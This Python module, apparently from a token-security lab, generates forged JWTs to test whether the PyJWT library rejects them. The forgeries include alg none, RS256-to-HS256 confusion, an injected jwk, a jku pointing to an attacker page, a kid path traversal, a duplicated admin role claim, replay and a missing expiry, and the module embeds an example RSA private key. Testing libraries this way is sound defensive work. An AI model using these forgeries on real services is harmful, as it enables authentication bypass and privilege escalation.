"""Forgeries for a real library, PyJWT: signed with RS256 where that is possible, so that no `alg` gives them away.

    for name, tokens in for_pyjwt().items(): …      # shown one after the other

They end in the year 2100: a library looks at the real clock. All keys are EXAMPLES.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

from labs.tokens.attacks.door import KEYS, TYP, signed_by
from labs.tokens.attacks.doors import pem
from labs.tokens.attacks.tools import EVIL_PAGE, bare, claims_of, part, with_hmac
from labs.tokens.examples import example_key
from labs.tokens.jws import base64url, public_jwk, read_key, sign

FAR = 4102444800  # 2100-01-01, in seconds since 1970
FORGERS_RSA: dict[str, Any] = {
    "kty": "RSA",
    "n": (
        "oahUIoWw0K0usKNuOR6H4wkf4oBUXHTxRvgb48E-BVvxkeDNjbC4he8rUWcJoZmds2h7M70imEVhRU5djINXtqllXI4DFqcI1DgjT9LewND8"
        "MW2Krf3Spsk_ZkoFnilakGygTwpZ3uesH-PFABNIUYpOiN15dsQRkgr0vEhxN92i2asbOenSZeyaxziK72UwxrrKoExv6kc5twXTq4h-QChL"
        "Oln0_mtUZwfsRaMStPs6mS6XrgxnxbWhojf663tuEQueGC-FCMfra36C9knDFGzKsNa7LZK2djYgyD3JR_MB_4NUJW_TqOQtwHYbxevoJArm"
        "-L5StowjzGy-_bq6Gw"
    ),
    "e": "AQAB",
    "d": (
        "kLdtIj6GbDks_ApCSTYQtelcNttlKiOyPzMrXHeI-yk1F7-kpDxY4-WY5NWV5KntaEeXS1j82E375xxhWMHXyvjYecPT9fpwR_M9gV8n9Hrh"
        "2anTpTD93Dt62ypW3yDsJzBnTnrYu1iwWRgBKrEYY46qAZIrA2xAwnm2X7uGR1hghkqDp0Vqj3kbSCz1XyfCs6_LehBwtxHIyh8Ripy40p24"
        "moOAbgxVw3rxT_vlt3UVe4WO3JkJOzlpUf-KTVI2Ptgm-dARxTEtE-id-4OJr0h-K-VFs3VSndVTIznSxfyrj8ILL6MG_Uv8YAu7VILSB3lO"
        "W085-4qE3DzgrTjgyQ"
    ),
    "p": (
        "1r52Xk46c-LsfB5P442p7atdPUrxQSy4mti_tZI3Mgf2EuFVbUoDBvaRQ-SWxkbkmoEzL7JXroSBjSrK3YIQgYdMgyAEPTPjXv_hI2_1eTSP"
        "VZfzL0lffNn03IXqWF5MDFuoUYE0hzb2vhrlN_rKrbfDIwUbTrjjgieRbwC6Cl0"
    ),
    "q": (
        "wLb35x7hmQWZsWJmB_vle87ihgZ19S8lBEROLIsZG4ayZVe9Hi9gDVCOBmUDdaDYVTSNx_8Fyw1YYa9XGrGnDew00J28cRUoeBB_jKI1oma0"
        "Orv1T9aXIWxKwd4gvxFImOWr3QRL9KEBRzk2RatUBnmDZJTIAfwTs0g68UZHvtc"
    ),
    "dp": (
        "ZK-YwE7diUh0qR1tR7w8WHtolDx3MZ_OTowiFvgfeQ3SiresXjm9gZ5KLhMXvo-uz-KUJWDxS5pFQ_M0evdo1dKiRTjVw_x4NyqyXPM5nULP"
        "kcpU827rnpZzAJKpdhWAgqrXGKAECQH0Xt4taznjnd_zVpAmZZq60WPMBMfKcuE"
    ),
    "dq": (
        "Dq0gfgJ1DdFGXiLvQEZnuKEN0UUmsJBxkjydc3j4ZYdBiMRAy86x0vHCjywcMlYYg4yoC4YZa9hNVcsjqA3FeiL19rk8g6Qn29Tt0cj8qqyF"
        "pz9vNDBUfCAiJVeESOjJDZPYHdHY8v1b-o-Z2X5tvLx-TCekf7oxyeKDUqKWjis"
    ),
    "qi": (
        "VIMpMYbPf47dT1w_zDUXfPimsSegnMOA1zTaX7aGk_8urY6R8-ZW1FxU7AlWAyLWybqq6t16VFd7hQd0y6flUK4SlOydB61gwanOsXGOAOv8"
        "2cHq0E3eL4HrtZkUuKvnPrMnsUUFlfUdybVzxyjz9JF_XyaY14ardLSjf4L_FNY"
    ),
}
"""The forger's RSA key (RFC 7516 A.1's)."""


def _forged(header: Mapping[str, Any]) -> str:
    """Ada as an administrator, signed by the forger with RS256."""
    key = read_key({**FORGERS_RSA, "alg": "RS256"})
    claims = {**claims_of(signed_by("winter", exp=FAR)), "role": "admin"}
    return sign(json.dumps(claims).encode(), key, {"typ": TYP, **header})


def _pasted() -> str:
    """A token of the issuer's that says `role` twice."""
    key = example_key("RS256", "winter")
    header = part({"alg": "RS256", "kid": "winter", "typ": TYP})
    claims = json.dumps(claims_of(signed_by("winter", exp=FAR)))
    twice = claims.removesuffix("}") + ', "name": "x", "role": "admin"}'
    signing_input = f"{header}.{part(twice.encode())}"
    return f"{signing_input}.{base64url.encode(key.algorithm.sign(key.signs_with, signing_input.encode()))}"


def for_pyjwt() -> dict[str, tuple[str, ...]]:
    """Some of the grid's attacks: their tokens, to be shown one after the other."""
    good = signed_by("winter", exp=FAR)
    head, _, tail = good.split(".")
    own = public_jwk({**FORGERS_RSA, "alg": "RS256"})
    return {
        "alg none": (bare("none"),),
        "alg nOnE": (bare("nOnE"),),
        "payload changed": (f"{head}.{part({**claims_of(good), 'role': 'admin'})}.{tail}",),
        "RS256 → HS256": (with_hmac(pem(KEYS["winter"].material), {"kid": "winter"}),),
        "jwk": (_forged({"jwk": own}),),
        "jku": (_forged({"jku": EVIL_PAGE}),),
        "kid as a path": (_forged({"kid": "../../dev/null"}),),
        "another typ": (signed_by("winter", {"typ": "JWT"}, exp=FAR),),
        "role twice": (_pasted(),),
        "replay": (good, good),
        "no exp": (signed_by("winter", exp=None),),
    }
